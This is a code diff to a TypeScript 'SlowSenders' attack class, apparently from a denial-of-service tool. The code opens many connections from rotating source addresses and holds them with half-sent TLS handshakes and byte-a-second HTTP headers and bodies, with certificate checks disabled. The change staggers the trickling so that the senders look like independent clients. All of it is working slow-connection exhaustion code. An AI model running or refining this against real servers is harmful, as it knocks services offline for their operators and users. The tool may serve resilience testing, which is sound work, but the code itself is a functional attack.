@@ -18,14 +18,13 @@ export interface SlowOptions {
 
 interface Sender {
   readonly socket: Socket;
-  /** A byte a second follows. */
-  readonly trickles: boolean;
   readonly way: (typeof ways)[number] | 'handshake';
   readonly sinceMs: number;
 }
 
-const OPEN_EVERY_MS = 20;
-const TRICKLE_EVERY_MS = 1_000;
+const TICK_MS = 20;
+/** In a second each has its turn: they are clients of their own, and do not send at the same moment. */
+const TURNS = 1_000 / TICK_MS;
 /** The head of a record of 512 bytes with a ClientHello, and no more. */
 const HALF_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);
 
@@ -35,7 +34,9 @@ export class SlowSenders implements Attack {
   readonly #options: SlowOptions;
   readonly #sockets = new Set<Socket>();
   readonly #held = new Set<Sender>();
-  readonly #timers: NodeJS.Timeout[];
+  /** Those from whom a byte a second follows, by their turn. */
+  readonly #trickling = Array.from({ length: TURNS }, () => new Set<Socket>());
+  readonly #timer: NodeJS.Timeout;
   #isResting = false;
   #opened = 0;
   #peak = 0;
@@ -44,12 +45,12 @@ export class SlowSenders implements Attack {
 
   constructor(options: SlowOptions) {
     this.#options = options;
-    const perTick = (options.openPerS * OPEN_EVERY_MS) / 1000;
     let due = 0;
-    const opening = setInterval(() => {
-      for (due += perTick; due >= 1 && this.#opened < options.count; due--) this.#open(this.#opened++);
-    }, OPEN_EVERY_MS);
-    this.#timers = [opening, setInterval(() => this.#trickle(), TRICKLE_EVERY_MS)];
+    let ticks = 0;
+    this.#timer = setInterval(() => {
+      for (due += options.openPerS / TURNS; due >= 1 && this.#opened < options.count; due--) this.#open(this.#opened++);
+      this.#trickle(ticks++ % TURNS);
+    }, TICK_MS);
   }
 
   get figures() {
@@ -76,7 +77,7 @@ export class SlowSenders implements Attack {
   }
 
   stop(): void {
-    for (const timer of this.#timers) clearInterval(timer);
+    clearInterval(this.#timer);
     for (const socket of this.#sockets) socket.destroy();
   }
 
@@ -85,17 +86,21 @@ export class SlowSenders implements Attack {
     const isTls = tlsUrl !== null && index % 2 === 0;
     const { hostname, port } = new URL(isTls ? tlsUrl : plainUrl);
     const where = { host: hostname, port: Number(port), localAddress: sources[index % sources.length]! };
-    const turn = Math.floor(index / 2) % (isTls ? ways.length + 1 : ways.length);
+    const choice = Math.floor(index / 2) % (isTls ? ways.length + 1 : ways.length);
     // Only over TLS there is a fourth.
-    const way = ways[turn] ?? 'handshake';
+    const way = ways[choice] ?? 'handshake';
     const isHandshake = way === 'handshake';
     const secure = { ...where, ALPNProtocols: ['http/1.1'], rejectUnauthorized: false };
     const socket = isTls && !isHandshake ? connectTls(secure) : connect(where);
     socket.once(isTls && !isHandshake ? 'secureConnect' : 'connect', () => {
-      const trickles = way === 'header' || way === 'body';
       if (isHandshake) socket.write(HALF_HELLO);
-      else if (trickles) socket.write(this.#begun(way));
-      this.#hold({ socket, trickles, way, sinceMs: performance.now() });
+      if (way === 'header' || way === 'body') {
+        socket.write(this.#begun(way));
+        const turn = this.#trickling[index % TURNS]!;
+        turn.add(socket);
+        socket.once('close', () => turn.delete(socket));
+      }
+      this.#hold({ socket, way, sinceMs: performance.now() });
     });
     this.#sockets.add(socket);
     socket.on('error', () => {}).once('close', () => this.#sockets.delete(socket));
@@ -120,8 +125,8 @@ export class SlowSenders implements Attack {
     });
   }
 
-  #trickle(): void {
+  #trickle(turn: number): void {
     if (this.#isResting) return;
-    for (const { socket, trickles } of this.#held) if (trickles) socket.write('x');
+    for (const socket of this.#trickling[turn]!) socket.write('x');
   }
 }
